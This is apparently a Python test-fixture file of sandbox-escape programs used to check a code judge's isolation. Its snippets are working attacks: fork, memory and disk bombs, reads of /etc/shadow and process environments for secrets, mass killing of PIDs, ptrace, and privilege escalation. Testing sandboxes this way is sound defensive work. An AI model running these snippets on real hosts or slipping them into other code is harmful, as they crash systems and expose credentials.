"""Attacks in Python."""

TESTS = "def check(candidate):\n    assert candidate() == True\n\ncheck(attack)\n"

PROGRAMS = {
    "fork_bomb": """
import os, time
def attack():
    started = 0
    while started < 5000:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
            started += 1
        except OSError:
            return False
    return True
""",
    "memory_bomb": """
def attack():
    blocks = [bytearray(b"x") * (64 << 20) for _ in range(128)]
    return len(blocks) == 128
""",
    "disk_bomb": """
import itertools, tempfile
def attack():
    written = 0
    for number in itertools.count():
        try:
            with open(f"/tmp/{number}", "wb") as file:
                file.write(b"x" * (16 << 20))
        except OSError:
            return False
        written += 16
        if written > 2048:
            return True
""",
    "output_bomb": """
import os
def attack():
    for _ in range(256):
        print("x" * (1 << 20))
    return True
""",
    "network": """
import socket
def attack():
    for host in ("127.0.0.1", "::1", "8.8.8.8"):
        try:
            socket.create_connection((host, {port}), timeout=1).close()
            return True
        except OSError:
            pass
    return False
""",
    "host_files": """
import os
def attack():
    for path in ("{secret}", "/proc/1/root{secret}", "/proc/self/root/..{secret}", "/etc/shadow"):
        try:
            if open(path).read():
                return True
        except OSError:
            pass
    return False
""",
    "host_write": """
import os
def attack():
    for path in ("{folder}/hostile", "/usr/hostile", "/judge/inside/hostile", "/hostile"):
        try:
            open(path, "w").write("x")
            return True
        except OSError:
            pass
    return False
""",
    "environment": """
import os
def attack():
    texts = [str(dict(os.environ))]
    for process in os.listdir("/proc"):
        if process.isdigit():
            try:
                texts.append(open(f"/proc/{process}/environ").read())
            except OSError:
                pass
    return any("JUDGE_HOST_SECRET" in text for text in texts)
""",
    "parent_kill": """
import ctypes, os, signal
def attack():
    libc = ctypes.CDLL(None)
    for pid in (1, os.getppid(), -1):
        libc.kill(pid, signal.SIGKILL)
        libc.kill(pid, signal.SIGSTOP)
    for pid in range(2, 400):
        if pid != os.getpid():
            libc.kill(pid, signal.SIGKILL)
    return False
""",
    "symlink": """
import os
def attack():
    for place in (".", "/tmp", "/dev/shm"):
        for number, target in enumerate(("{secret}", "/etc/shadow", "/../../{secret}")):
            link = f"{place}/link{number}"
            os.symlink(target, link)
            try:
                if open(link).read():
                    return True
            except OSError:
                pass
    return False
""",
    "ptrace": """
import ctypes, os, resource
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(1, os.getpid()):
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
            return True
        except OSError:
            pass
        if libc.ptrace(16, pid, None, None) == 0:
            return True
        try:
            os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            return True
        except OSError:
            pass
    return False
""",
    "privileges": """
import ctypes, os
def attack():
    libc = ctypes.CDLL(None)
    if libc.unshare(0x10000000) == 0 or libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0:
        return True
    for change in (os.setuid, os.setgid):
        try:
            change(0)
            return True
        except OSError:
            pass
    return any(int(line.split()[1], 16) for line in open("/proc/self/status")
               if line.startswith(("CapPrm", "CapEff", "CapInh", "CapAmb")))
""",
    "daemon": """
import os, subprocess, sys
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/usr/bin/tail", ["{marker}", "-f", "/dev/null"])
        os._exit(0)
    return True
""",
    "leftovers": """
import os
def attack():
    for folder in ("/tmp", "/dev/shm", "/run", "/var/tmp", ".", "/work", "/judge"):
        try:
            open(f"{folder}/{marker}", "w").write("x")
        except OSError:
            pass
    return True
""",
    "find_leftovers": """
import os
def attack():
    return any("{marker}" in names for _, _, names in os.walk("/")
               for names in [names] if names)
""",
}
